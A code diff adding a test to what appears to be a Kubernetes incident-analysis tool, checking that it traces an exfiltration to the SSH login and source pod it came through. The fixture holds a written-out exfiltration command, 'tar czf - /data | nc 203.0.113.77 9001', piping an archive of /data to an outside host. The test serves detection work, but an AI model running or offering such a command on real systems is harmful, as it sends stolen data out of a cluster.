@@ -748,3 +748,31 @@ def test_without_an_l7_flow_the_request_whose_arguments_send_data_is_key(tmp_pat
     f = H.derive_findings(c_)
     assert f["flag"]["exec_id"] == _id(51), f["flag"]
     c_.close()
+
+
+def test_a_shell_sshd_started_is_a_login_session_and_the_connection_it_came_over_is_named(tmp_path):
+    # no Falco, nothing in /tmp: ssh from another pod into this one, then tar | nc out of the cluster
+    sshd, a = _run(10, SHIM, "/usr/sbin/sshd", "-D -e", "2026-03-01T08:00:00Z", init=True)
+    bash, b = _run(20, _ref(sshd), "/bin/bash", "-c 'tar czf - /data | nc 203.0.113.77 9001'", "2026-03-01T10:00:01Z",
+                   init=True)
+    nc, c = _run(22, _ref(bash), "/usr/bin/nc", "203.0.113.77 9001", "2026-03-01T10:00:01.1Z", init=True)
+    # the client: ssh in another pod on another node, matched to the flow by its connect's 5-tuple
+    client = json.loads(_run(90, SHIM, "/usr/bin/ssh", "-i /tmp/k user@10.0.2.7", "2026-03-01T10:00:00Z")[1])
+    client["node_name"] = "worker-5"
+    client["process_exec"]["process"]["pod"] = {"namespace": "analytics", "name": "report-worker-x",
+                                                "container": {"id": "containerd://" + "e" * 64}}
+    connect = json.loads(_connect(client["process_exec"]["process"], SHIM, 50100, "10.0.2.7", 22, "2026-03-01T10:00:00.2Z"))
+    connect["node_name"] = "worker-5"
+    connect["process_kprobe"]["args"][0]["sock_arg"]["saddr"] = "10.0.5.9"
+    flow = json.loads(_sighting(50100, "10.0.2.7", 22, "FORWARDED", "2026-03-01T10:00:00.201Z", dst_pod=POD))
+    flow["flow"]["IP"]["source"] = "10.0.5.9"
+    flow["flow"]["source"] = {"namespace": "analytics", "pod_name": "report-worker-x", "labels": ["k8s:app=rw"]}
+    flow["flow"]["destination"]["namespace"] = "shop"
+    c_ = _case(tmp_path, [a, b, c, _connect(nc, _ref(bash), 41000, "203.0.113.77", 9001, "2026-03-01T10:00:01.2Z"),
+                          json.dumps(client), json.dumps(connect), json.dumps(flow)])
+    f = H.derive_findings(c_)
+    assert (f["basis"], f["attacker_pod"], f["flag_text"]) == (H.LOGIN, POD, "/usr/bin/nc 203.0.113.77 9001")
+    assert [(t["src_pod"], t["dst_port"], t["by"]) for t in f["triggers"]] == [
+        ("report-worker-x", 22, "/usr/bin/ssh -i /tmp/k user@10.0.2.7")]
+    assert any(n.startswith("the login came over a connection from analytics/report-worker-x to port 22") for n in f["notes"])
+    c_.close()
